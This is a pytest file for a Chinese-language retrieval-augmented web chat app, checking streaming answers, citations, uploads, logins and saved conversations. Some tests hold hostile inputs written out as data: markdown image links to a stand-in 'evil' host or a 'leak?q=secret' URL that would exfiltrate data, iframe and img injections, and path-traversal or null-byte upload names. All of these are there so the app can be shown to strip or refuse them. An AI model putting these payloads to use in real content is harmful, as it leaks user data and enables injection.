"""The web chat's handlers, without a browser: hashing embedder, scripted LLM, the sample corpus."""

from __future__ import annotations

import json
import logging
import subprocess
import sys
import typing
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import httpx
import pytest
from conftest import FAKE_MODEL_ID, index_state, modes
from test_browser import running

from rag.access import check_exposure, is_loopback, read_api_keys
from rag.accounts.db import Database
from rag.components import Components
from rag.config import REPO_ROOT, Settings
from rag.errors import InputError, RagError
from rag.index.chunking import Chunk
from rag.index.store import DocumentRecord
from rag.index.uploads import check_upload, safe_upload_name, uploads_dir
from rag.models.fakes import HashingEmbedder, ScriptedGenerator
from rag.qa.prompts import REFUSAL
from rag.qa.retriever import SearchHit
from rag.web.app import (
    CONTENT_SECURITY_POLICY,
    WebApp,
    build_app,
    read_logins,
)
from rag.web.chat import CHAT_QUEUE
from rag.web.feedback import FeedbackStore
from rag.web.render import ChatTurn, answer_html, chat_messages, citation_links, document_rows, format_time, sources_html

HENAN = "河南设立的人工智能产业基金规模是多少？"
HENAN_REPLY = "河南设立了总规模30亿元的人工智能产业基金[1]。"
QINGLAN = "青岚市设立未来产业基金\n\n青岚市人民政府近日宣布，设立总规模77亿元的青岚未来产业基金，重点支持人工智能和新材料企业。\n"


def make_app(tmp_path: Path, index_dir: Path | None, replies=HENAN_REPLY) -> WebApp:
    """A web app over ``index_dir`` (None: an index that does not exist yet) with a scripted LLM."""
    index_dir = index_dir or tmp_path / "index" / "main"
    settings = replace(Settings(), index_dir=index_dir, embed_model=FAKE_MODEL_ID)
    models = Components(settings, HashingEmbedder(model_id=FAKE_MODEL_ID), ScriptedGenerator(replies))
    return WebApp(settings, models, feedback_file=tmp_path / "feedback.jsonl")


def is_skip(value) -> bool:
    return value == gr.skip()


def answer_of(app: WebApp, question: str, turns: list[ChatTurn] | None = None) -> tuple[list, list[ChatTurn], str]:
    """Run one question through the chat handler; (final chat messages, turns, sources panel)."""
    *_, last = app.ask(question, turns or [])
    chat, new_turns, sources, _ = last
    return chat, new_turns, sources


# --------------------------------------------------------------------------- building


def test_build_app_loads_no_model(tmp_path, monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("a model was loaded while building the page")

    monkeypatch.setattr("rag.models.embedders.make_embedder", refuse)
    monkeypatch.setattr("rag.models.generators.make_generator", refuse)
    settings = replace(Settings(), index_dir=tmp_path / "index" / "main")
    assert isinstance(build_app(settings, feedback_file=tmp_path / "f.jsonl"), gr.Blocks)


def test_answers_share_one_queue(tmp_path):
    app = make_app(tmp_path, None)
    demo = app.build()
    asking = [f for f in demo.fns.values() if getattr(f.fn, "__func__", None) is WebApp.ask]
    assert len(asking) == 2  # the Enter key and the send button
    assert all(f.concurrency_limit == app.settings.queue_capacity and f.concurrency_id == CHAT_QUEUE for f in asking)


def test_handler_type_hints_resolve():
    """Gradio injects LikeData and Request by annotation; unresolvable hints would silently disable that."""
    hints = typing.get_type_hints(WebApp.like)
    assert hints["data"] is gr.LikeData
    assert hints["request"] == gr.Request | None
    assert typing.get_type_hints(WebApp.vote_up)["request"] == gr.Request | None


# --------------------------------------------------------------------------- chat


def test_passages_arrive_before_the_answer_text(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    outputs = list(app.ask(HENAN, []))
    first_sources = next(i for i, out in enumerate(outputs) if isinstance(out[2], str) and "rag-passage" in out[2])
    first_text = next(i for i, out in enumerate(outputs) if "30亿" in out[0][-1]["content"])
    assert first_sources < first_text
    assert outputs[0][3] == ""  # the question box is cleared at once
    chat, turns, sources = outputs[-1][0], outputs[-1][1], outputs[-1][2]
    assert chat[-1]["role"] == "assistant"
    assert 'class="rag-cite" href="#rag-src-0-1"' in chat[-1]["content"]
    assert 'id="rag-src-0-1"' in sources and "30亿元" in sources
    assert "000_3193559408eabc5b.txt" in sources  # the source file name is shown
    assert turns[-1].answer is not None and not turns[-1].answer.refused


def test_unverified_citations_look_different():
    html = citation_links("甲[1]。乙[2?]。<b>", turn=3)
    assert '<a class="rag-cite" href="#rag-src-3-1"' in html
    assert '<a class="rag-cite rag-unverified" href="#rag-src-3-2"' in html and "[2?]" in html
    assert "<b>" not in html and "&lt;b&gt;" in html  # model output is escaped


def test_refusal_is_shown_as_a_notice(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    chat, turns, sources = answer_of(app, "Quelle est la capitale de la Mongolie?")
    assert turns[-1].answer is not None and turns[-1].answer.refused
    assert "rag-refusal" in chat[-1]["content"] and "资料中没有找到答案" in chat[-1]["content"]
    assert "没有回答这个问题" in sources


def test_a_retried_refusal_is_never_shown(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index, [REFUSAL, HENAN_REPLY])
    steps = list(app.ask(HENAN, []))
    shown = [step[0][-1]["content"] for step in steps if not is_skip(step[0]) and step[0]]
    assert not any(REFUSAL[:6] in text for text in shown)  # the chat shows verified text only
    assert any("河南设立了" in text for text in shown[:-1])  # the second attempt's answer, streamed
    chat, turns, _ = steps[-1][:3]
    assert not turns[-1].answer.refused and REFUSAL not in chat[-1]["content"] and "30亿元" in chat[-1]["content"]


def test_follow_up_uses_the_history(tmp_path, sample_index):
    replies = [HENAN_REPLY, "广西设立的人工智能产业基金规模是多少？", "广西计划组建总规模不低于100亿元的人工智能产业基金[1]。"]
    app = make_app(tmp_path, sample_index, replies)
    _, turns, _ = answer_of(app, HENAN)
    chat, turns, sources = answer_of(app, "那广西呢？", turns)
    generator = app.models.pipeline().generator
    rewrite = generator.calls[1][-1]["content"]
    assert HENAN.rstrip("？") in rewrite and "30亿元" in rewrite
    assert turns[-1].answer.standalone_question == "广西设立的人工智能产业基金规模是多少？"
    assert len(chat) == 4 and 'data-turn="1"' in sources and 'data-turn="0" hidden' in sources


@pytest.mark.parametrize("question, message", [("   ", "请先输入问题"), ("问" * 2001, "问题太长")])
def test_empty_or_huge_question_is_refused_politely(tmp_path, sample_index, question, message):
    app = make_app(tmp_path, sample_index)
    with pytest.warns(UserWarning, match=message):
        outputs = list(app.ask(question, []))
    assert len(outputs) == 1 and all(is_skip(value) for value in outputs[0])


def test_missing_index_gives_a_clear_message(tmp_path):
    app = make_app(tmp_path, None)
    chat, turns, _ = answer_of(app, HENAN)
    assert "知识库还是空的" in chat[-1]["content"] and "rag-error" in chat[-1]["content"]
    assert "Traceback" not in chat[-1]["content"]
    assert turns[-1].answer is None


def test_unexpected_errors_are_not_shown_raw(tmp_path, sample_index):
    def broken(messages) -> str:
        raise ZeroDivisionError("secret internals")

    app = make_app(tmp_path, sample_index, broken)
    chat, _, _ = answer_of(app, HENAN)
    assert "出了点问题" in chat[-1]["content"] and "secret internals" not in chat[-1]["content"]


def test_clear_starts_a_new_conversation(tmp_path):
    chat, turns, sources, question, status = make_app(tmp_path, None).clear()
    assert chat == [] and turns == [] and "rag-empty" in sources and question == "" and status == ""


def test_answer_html_while_streaming():
    turn = ChatTurn("问题", text="部分回答[1]", passages=[])
    assert "rag-cursor" in answer_html(turn, 0)
    assert "正在查找资料" in answer_html(ChatTurn("问题"), 0)


LEAKS = "![x](http://evil/?q=1) <img src=http://evil> ![y][r] ![z]\n\n[r]: http://evil/r\n[z]: http://evil/z"


def test_chat_messages_carry_no_images():
    question, reply = "看图 ![q](http://evil/?q=2)", f"30亿元[1]。{LEAKS}"
    chat = chat_messages([ChatTurn(question, reply), ChatTurn(question, "30亿元[1]。![x](http://evil/?q=se")])
    for message in chat:
        assert "](http://evil" not in message["content"] and "<img" not in message["content"]
        assert "![" not in message["content"]  # reference images too: a link at most
    assert chat[1]["content"].startswith('30亿元<a class="rag-cite"') and "x &lt;img src=http://evil&gt;" in chat[1]["content"]
    assert chat[0]["content"] == "看图 q"


def test_an_image_the_model_writes_is_never_shown_not_even_while_streaming(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index, replies=HENAN_REPLY + "![](http://127.0.0.1:9/leak?q=secret)")
    outputs = list(app.ask(HENAN, []))
    assert all("127.0.0.1:9" not in output[0][-1]["content"] for output in outputs if output[0] != gr.skip())
    assert "30亿元" in outputs[-1][0][-1]["content"]


def test_every_response_carries_the_content_security_policy(tmp_path):
    with running(make_app(tmp_path, None)) as url:
        for path in ("", "config", "gradio_api/info", "no-such-page"):
            assert httpx.get(url + path).headers["content-security-policy"] == CONTENT_SECURITY_POLICY


def test_passages_show_markup_and_images_as_text(tmp_path):
    chunk = Chunk("c1", "d1", "标题<img src=http://evil>", "/a.txt", "正文![](http://evil/p)<iframe src=http://evil>", 0)
    panel = sources_html([ChatTurn("问", passages=[SearchHit(1, chunk, 0.5, True)])])
    assert "<img" not in panel and "<iframe" not in panel and "&lt;iframe src=http://evil&gt;" in panel


# --------------------------------------------------------------------------- feedback


def test_feedback_row_has_the_answer_its_sources_and_the_user(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    _, turns, _ = answer_of(app, HENAN)
    comment, status = app.vote_down(turns, "  数字要再核对  ")
    assert comment == "" and "已记录" in status
    like = gr.LikeData(None, {"index": 1, "value": "…", "liked": True})
    app.like(turns, "", like)
    lines = FeedbackStore(app.models.database()).records()  # in RAG_DB, not a file
    assert [line["vote"] for line in lines] == ["down", "up"]
    first = lines[0]
    assert first["comment"] == "数字要再核对"
    assert first["question"] == HENAN and "30亿元" in first["answer"]
    assert first["citations"][0]["n"] == 1 and first["citations"][0]["verified"] is True
    assert first["passage_chunk_ids"] == [hit.chunk.chunk_id for hit in turns[0].passages]
    assert first["time"] and first["user"] == "local"  # single-user mode: the local owner
    assert not (tmp_path / "feedback.jsonl").exists()


def test_the_feedback_database_and_its_folder_are_owner_only_whatever_the_umask(tmp_path, umask):
    db = Database(tmp_path / "db" / "rag.db")
    store = FeedbackStore(db)
    store.add({"vote": "up"})
    store.add({"vote": "down"})
    found = modes(tmp_path / "db")
    assert found["."] == 0o700 and found["rag.db"] == 0o600
    assert all(mode == 0o600 for name, mode in found.items() if name != ".")  # its -wal and -shm files too
    assert [record["vote"] for record in store.records()] == ["up", "down"]


def test_feedback_without_an_answer_is_not_written(tmp_path):
    app = make_app(tmp_path, None)
    assert app.vote_up([], "意见") == ("意见", "还没有可以评价的回答。")
    assert FeedbackStore(app.models.database()).records() == []


# --------------------------------------------------------------------------- knowledge base


@pytest.mark.parametrize("name", ["../x.txt", "a/b.txt", "..\\x.txt", ".hidden.txt", "tool.exe", "noext", "", "a\x00.txt"])
def test_unsafe_upload_names_are_refused(name):
    with pytest.raises(InputError):
        safe_upload_name(name)


def test_upload_names_that_are_fine():
    assert safe_upload_name(" 青岚市 新闻.txt ") == "青岚市 新闻.txt"
    assert safe_upload_name("报告.PDF") == "报告.PDF"


def test_empty_or_huge_uploads_are_refused(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.touch()
    with pytest.raises(InputError, match="空"):
        check_upload(empty, empty.name)
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as handle:
        handle.truncate(10_001)  # sparse: no disk used
    with pytest.raises(InputError, match="上限"):
        check_upload(huge, huge.name, max_bytes=10_000)


def test_upload_ask_and_delete(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index, "青岚市设立了总规模77亿元的青岚未来产业基金[1]。")
    article = tmp_path / "browser-temp" / "青岚市未来产业基金.txt"
    article.parent.mkdir()
    article.write_text(QINGLAN, encoding="utf-8")
    status, summary, rows, choices, files = app.upload([str(article)])
    assert "✅" in status and files is None
    assert "6" in summary and rows[0][:3] == ["青岚市设立未来产业基金", "青岚市未来产业基金.txt", 1]
    stored = uploads_dir(app.settings.index_dir) / article.name
    assert stored.read_text(encoding="utf-8") == QINGLAN
    assert ("青岚市设立未来产业基金（青岚市未来产业基金）", "青岚市未来产业基金") in choices["choices"]

    assert "没有变化" in app.upload([str(article)])[0]  # the same file again: nothing to do

    chat, turns, sources = answer_of(app, "青岚未来产业基金的规模是多少？")
    assert "青岚市未来产业基金.txt" in sources and "77亿元" in chat[-1]["content"]
    assert turns[-1].answer.citations[0].doc_id == "青岚市未来产业基金"

    status, summary, rows, choices = app.delete("青岚市未来产业基金")
    assert "已删除" in status and "5" in summary
    assert all(row[4] != "青岚市未来产业基金" for row in rows)
    assert not stored.exists()
    _, turns, sources = answer_of(app, "青岚未来产业基金的规模是多少？")
    assert "青岚市未来产业基金.txt" not in sources and "77亿元" not in sources


@pytest.mark.parametrize(
    "name, data, reason", [("tool.exe", b"MZ\x90\x00", "不支持"), ("broken.pdf", b"not a pdf at all", "PDF")]
)
def test_bad_upload_leaves_the_index_intact(tmp_path, sample_index, name, data, reason):
    app = make_app(tmp_path, sample_index)
    before = index_state(sample_index)
    path = tmp_path / "browser-temp" / name
    path.parent.mkdir()
    path.write_bytes(data)
    status, *_ = app.upload([str(path)])
    assert "❌" in status and reason in status
    assert index_state(sample_index) == before
    folder = uploads_dir(app.settings.index_dir)
    assert not folder.exists() or not any(folder.iterdir())


def test_upload_without_files_and_delete_without_choice(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    assert "请先选择" in app.upload([])[0]
    assert "请先在列表中选择" in app.delete(None)[0]
    assert "没有编号为" in app.delete("no-such-doc")[0]


def test_first_upload_creates_the_index(tmp_path):
    app = make_app(tmp_path, None)
    summary, rows, _ = app.kb_view()
    assert "知识库还是空的" in summary and rows == []
    article = tmp_path / "t" / "青岚.txt"
    article.parent.mkdir()
    article.write_text(QINGLAN, encoding="utf-8")
    status, summary, rows, _, _ = app.upload([str(article)])
    assert "✅" in status and len(rows) == 1


def test_document_rows_and_times():
    record = DocumentRecord("d1", "标题", "/x/y/文章.txt", "h", 3, 100, "2025-08-09T10:11:12+0800")
    assert document_rows([record]) == [["标题", "文章.txt", 3, "2025-08-09 10:11", "d1"]]
    assert format_time("not a time") == "not a time"


# --------------------------------------------------------------------------- access


def test_read_logins_from_file_and_env(tmp_path):
    auth = tmp_path / "auth.txt"
    auth.write_text("# staff\n\nalice:s3cret\nbob:pa:ss:word\n", encoding="utf-8")
    assert read_logins(auth) == [("alice", "s3cret"), ("bob", "pa:ss:word")]
    assert read_logins(None, "carol:pw") == [("carol", "pw")]
    assert read_logins(auth, "carol:pw")[-1] == ("carol", "pw")
    assert read_logins(None, None) == []


@pytest.mark.parametrize("content", ["alice\n", ":nouser\n", "alice:\n", "# only a comment\n"])
def test_bad_auth_files_are_refused(tmp_path, content):
    auth = tmp_path / "auth.txt"
    auth.write_text(content, encoding="utf-8")
    with pytest.raises(RagError):
        read_logins(auth)


def test_missing_auth_file_is_refused(tmp_path):
    with pytest.raises(RagError, match="cannot read"):
        read_logins(tmp_path / "nope.txt")


def test_auth_and_key_files_others_can_read_get_a_warning(tmp_path, caplog):
    auth, keys = tmp_path / "auth.txt", tmp_path / "keys.txt"
    auth.write_text("alice:s3cret\n", encoding="utf-8")
    keys.write_text("k" * 16 + "\n", encoding="utf-8")
    for path, mode in ((auth, 0o644), (keys, 0o620)):
        path.chmod(mode)
    with caplog.at_level(logging.WARNING, logger="rag.access"):
        read_logins(auth)
        read_api_keys(keys)
    assert caplog.messages == [
        f"the auth file {auth} can be read or changed by other users (mode 0644); run `chmod 600 {auth}`",
        f"the API keys file {keys} can be read or changed by other users (mode 0620); run `chmod 600 {keys}`",
    ]
    caplog.clear()
    auth.chmod(0o600)
    keys.chmod(0o400)
    read_logins(auth)
    read_api_keys(keys)
    assert caplog.messages == []


def test_the_warning_about_a_shared_keys_file_is_a_line_on_stderr(tmp_path):
    keys = tmp_path / "keys.txt"
    keys.write_text("k" * 16 + "\n", encoding="utf-8")
    keys.chmod(0o644)
    code = f"from rag.access import read_api_keys; read_api_keys({str(keys)!r})"  # no logging set up, as in `rag api`
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO_ROOT, check=True)
    assert run.stderr == f"the API keys file {keys} can be read or changed by other users (mode 0644); run `chmod 600 {keys}`\n"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1", "127.1.2.3"])
def test_loopback_hosts(host):
    assert is_loopback(host)


@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.5", "::", "example.org"])
def test_network_hosts(host):
    assert not is_loopback(host)


def test_open_network_needs_a_login_or_an_explicit_opt_in():
    check_exposure("127.0.0.1", has_login=False, allow_open=False)
    check_exposure("0.0.0.0", has_login=True, allow_open=False)
    check_exposure("0.0.0.0", has_login=False, allow_open=True)
    with pytest.raises(RagError, match="RAG_ALLOW_OPEN=1"):
        check_exposure("0.0.0.0", has_login=False, allow_open=False)


def test_the_chat_shows_the_queue_position_while_the_model_answers_someone_else(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    holder = app.models.queue.enter()  # another visitor's answer holds the model
    updates = app.ask(HENAN, [])
    shown = ""
    for chat, *_ in updates:
        if chat is not gr.skip() and isinstance(chat, list) and "排队中" in chat[-1]["content"]:
            shown = chat[-1]["content"]
            break
    assert "前面还有 1 个问题" in shown
    holder.leave()
    *_, (chat, turns, _sources, _box) = updates
    assert "30亿元" in chat[-1]["content"] and turns[-1].answer is not None


# --------------------------------------------------------------------------- filters and folder sync


def test_the_filter_row_narrows_the_passages_and_cards_show_date_and_tags(tmp_path, synced_index):
    app = make_app(tmp_path, synced_index)
    tags, files = app.filter_choices()
    assert tags["choices"] == ["科技"] and [name for name, _ in files["choices"]] == ["compute.txt", "henan.txt", "robots.md"]
    *_, (_, turns, sources, _) = app.ask("人工智能产业基金的规模是多少？", [], "", "", ["科技"], [])
    assert {hit.chunk.doc_id for hit in turns[-1].passages} == {"compute"} and "#科技" in sources
    *_, (_, turns, sources, _) = app.ask("人工智能产业基金的规模是多少？", [], "2025-08-01", "2025-08-31", [], [])
    assert {hit.chunk.doc_id for hit in turns[-1].passages} == {"henan"} and "2025-08-09" in sources


def test_a_bad_filter_date_is_a_warning_not_an_answer(tmp_path, synced_index, monkeypatch):
    warnings: list[str] = []
    monkeypatch.setattr(gr, "Warning", lambda message, **kwargs: warnings.append(message))
    outputs = list(make_app(tmp_path, synced_index).ask(HENAN, [], "下周", "", [], []))
    assert all(is_skip(value) for value in outputs[-1]) and "筛选条件有误" in warnings[0]


def test_the_knowledge_base_tab_shows_the_last_sync(tmp_path, synced_index):
    summary, rows, _ = make_app(tmp_path, synced_index).kb_view()
    assert "上次同步：" in summary and "新增 3，更新 0，删除 0" in summary and len(rows) == 3
# --------------------------------------------------------------------------- evidence, full text, retrieval test, conversations


def test_sources_mark_the_evidence_and_open_the_whole_document(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    _, turns, sources = answer_of(app, HENAN)
    [citation] = turns[-1].answer.citations
    assert f'<mark class="rag-evidence">{citation.quote}</mark>' in sources.replace("\n", "")
    request = json.dumps(
        {"key": "7", "doc": citation.doc_id, "chunk": citation.chunk_id, "start": citation.start, "end": citation.end}
    )
    view = app.open_document(request)
    assert 'data-key="7"' in view and '<span class="rag-doc-chunk">' in view and "rag-evidence" in view
    assert "找不到" in app.open_document(json.dumps({"key": "8", "doc": "no-such-doc"}))
    assert "找不到" in app.open_document("not json")


def test_probe_shows_three_ranked_lists(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    page = app.probe(HENAN, 3)
    assert [f'data-mode="{m}"' in page for m in ("dense", "bm25", "hybrid")] == [True, True, True]
    assert page.count('class="rag-hit"') == 9
    assert "请先输入问题" in app.probe("  ", 3)


@pytest.mark.parametrize(("sent", "used"), [(10**6, 20), (-5, 1), (0, 1), (7.0, 7)])
def test_probe_holds_k_to_the_slider_whatever_the_browser_sends(tmp_path, sample_index, monkeypatch, sent, used):
    app = make_app(tmp_path, sample_index)
    retriever = app.models.retriever()
    asked: list[int] = []
    rankings = retriever.rankings

    def spy(query: str, k: int, where=None):
        asked.append(k)
        return rankings(query, k, where)

    monkeypatch.setattr(retriever, "rankings", spy)
    assert 'data-mode="hybrid"' in app.probe(HENAN, sent)
    assert asked == [used]


def test_conversations_are_saved_reopened_renamed_and_deleted(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    _, turns, _ = answer_of(app, HENAN)
    cid, listing = app.save_conversation(turns, "")
    assert listing["choices"] == [(HENAN, cid)] and listing["value"] == cid
    chat, reopened, sources, same, _ = app.open_conversation(cid)
    assert same == cid and reopened[0].answer == turns[0].answer and "rag-evidence" in sources
    assert app.rename_conversation(cid, "河南基金")[1]["choices"] == [("河南基金", cid)]
    assert app.delete_conversation(cid)[3] == "" and app.conversations.list("") == []
    assert app.open_conversation(cid)[3] == ""
    assert is_skip(app.open_conversation("")[0])  # a fresh page keeps a question already under way


def test_each_login_sees_only_its_own_conversations(tmp_path, sample_index):
    app = make_app(tmp_path, sample_index)
    alice, bob = SimpleNamespace(username="alice"), SimpleNamespace(username="bob")
    _, turns, _ = answer_of(app, HENAN)
    cid, _ = app.save_conversation(turns, "", alice)
    assert app.open_conversation(cid, bob)[3] == "" and app.conversation_choices("bob")["choices"] == []
    assert app.open_conversation(cid, alice)[3] == cid
    app.delete_conversation(cid, bob)  # not bob's: nothing happens
    assert [c.id for c in app.conversations.list("alice")] == [cid]
    assert app.forget_conversation()[0] == ""


def test_sources_of_a_question_in_parts_are_grouped_by_part(tmp_path, sample_index):
    def reply(messages) -> str:
        asked = messages[-1]["content"].split("问题：")[1]
        return "河南基金总规模30亿元[1]。" if asked.startswith("河南") else "安徽基金总规模不低于200亿元[1]。"

    app = make_app(tmp_path, sample_index, replies=reply)
    _, turns, sources = answer_of(app, "河南和安徽的人工智能产业基金规模分别是多少？")
    answer = turns[-1].answer
    assert [part.question for part in answer.parts] == ["河南的人工智能产业基金规模是多少？", "安徽的人工智能产业基金规模是多少？"]
    headings = [html_part.split("</div>")[0] for html_part in sources.split('<div class="rag-part">')[1:]]
    assert headings and all(" / ".join(hit.parts) in headings for hit in answer.passages)
    assert {question for heading in headings for question in heading.split(" / ")} == {part.question for part in answer.parts}
    assert "30亿元" in answer.answer and "200亿元" in answer.answer
